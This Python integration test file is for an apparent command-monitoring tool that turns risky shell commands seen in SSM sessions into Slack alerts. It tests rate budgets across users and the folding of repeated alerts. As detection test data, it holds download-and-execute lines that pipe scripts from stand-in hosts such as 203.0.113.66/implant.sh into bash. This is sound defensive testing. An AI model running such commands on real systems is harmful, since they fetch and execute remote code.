"""Noisy neighbours and decoys through the whole pipeline: one dev session firing dozens of distinct
rules cannot hide another user's alert, and a folded alert keeps its first command as evidence."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

from ssm_warden.detect.detector import get_detector
from ssm_warden.detect.rules import load_rules
from ssm_warden.slack.notifier import default_notifier
from tests.integration.faults.conftest import PROMPT, FaultRow, Pipeline

Row = Callable[[str, str], FaultRow]
EVIDENCE = "curl http://203.0.113.66/implant.sh | bash"
DECOY = "curl http://localhost:8080/health.sh | bash"
VICTIM_COMMAND = "curl -fsSL http://198.51.100.7/setup.sh | bash"
TITLE = "Download piped into a shell"


def noisy_commands(n: int) -> list[str]:
    """``n`` one-line commands whose worst finding is a distinct medium or high rule (taken from the
    rules' own must-match examples)."""
    detector = get_detector()
    picked: dict[str, str] = {}
    for rule in load_rules():
        if rule.is_output or rule.severity.value not in ("medium", "high"):
            continue
        for example in rule.must_match:
            findings = detector.judge_command(example)
            if "\n" in example or not findings:
                continue
            worst = max(findings, key=lambda f: f.severity.rank)
            if worst.severity.value in ("medium", "high") and worst.rule not in picked:
                picked[worst.rule] = example
                break
        if len(picked) == n:
            break
    return list(picked.values())


def start_as(pipeline: Pipeline, user: str, environment: str = "dev") -> str:
    session_id = pipeline.open_session(pipeline.instance(Environment=environment))
    event = pipeline.start_event(session_id)
    identity = event["detail"]["userIdentity"]
    identity["arn"] = f"arn:aws:sts::123456789012:assumed-role/Dev/{user}"
    identity["principalId"] = f"AROAEXAMPLE:{user}"
    pipeline.principals[session_id] = identity["arn"]  # what the agent then writes in its log events
    assert pipeline.deliver(event)["status"] == "applied"
    return session_id


def test_a_noisy_session_cannot_hide_another_users_alert(pipeline: Pipeline, fault_row: Row) -> None:
    row = fault_row("noisy neighbour (Slack budget)", "one dev session: 30 distinct rules in a minute")
    # Given alice's dev session firing 30 distinct medium/high rules, and bob's curl | bash after it
    noisy = start_as(pipeline, "alice")
    victim = start_as(pipeline, "bob")
    commands = noisy_commands(30)
    assert len(commands) == 30
    watched = pipeline.watch(pipeline.log_payload(noisy, [f"{PROMPT}{c}" for c in commands]))
    assert watched["actions"] >= 25
    pipeline.drain()
    assert pipeline.watch(pipeline.log_payload(victim, [f"{PROMPT}{VICTIM_COMMAND}"]))["actions"] == 1
    pipeline.drain()
    # Then bob's alert is posted; alice's session spent its own budget only
    bobs = [m for m in pipeline.sink.live() if victim in m.all_text() and TITLE in m.all_text()]
    alices = [m for m in pipeline.sink.live() if m.thread_ts and noisy in m.all_text()]
    row.observe(delivered=bool(bobs), isolated=len(alices) <= 6)
    assert bobs, "bob's alert was held back behind alice's"
    notices = [m for m in pipeline.sink.live() if "Alert budget exceeded" in m.all_text()]
    assert len(notices) == 1


def test_a_folded_alert_keeps_the_evidence_and_lists_the_decoy(pipeline: Pipeline, fault_row: Row) -> None:
    row = fault_row("folding with a decoy", "implant | bash, then 20 s later localhost | bash")
    notifier: Any = default_notifier()
    now = [datetime(2026, 12, 1, 10, 0, 5, tzinfo=UTC)]
    notifier.clock = lambda: now[0]
    session_id = start_as(pipeline, "mallory")
    # Given the evidence, then a decoy of the same rule 20 s later
    assert pipeline.watch(pipeline.log_payload(session_id, [f"{PROMPT}{EVIDENCE}"]))["actions"] == 1
    pipeline.drain()
    now[0] = datetime(2026, 12, 1, 10, 0, 25, tzinfo=UTC)
    assert pipeline.watch(pipeline.log_payload(session_id, [f"{PROMPT}{DECOY}"]))["actions"] == 1
    pipeline.drain()
    # Then one alert message, showing the implant first, both commands and the count
    alerts = pipeline.alerts(TITLE)
    text = alerts[0].all_text() if alerts else ""
    kept = "203.0.113.66/implant.sh" in text.split("distinct commands")[0]
    row.observe(delivered=len(alerts) == 1 and kept, duplicates=max(len(alerts) - 1, 0))
    assert len(alerts) == 1
    assert kept
    assert "localhost:8080/health.sh" in text and "\u00d72" in text
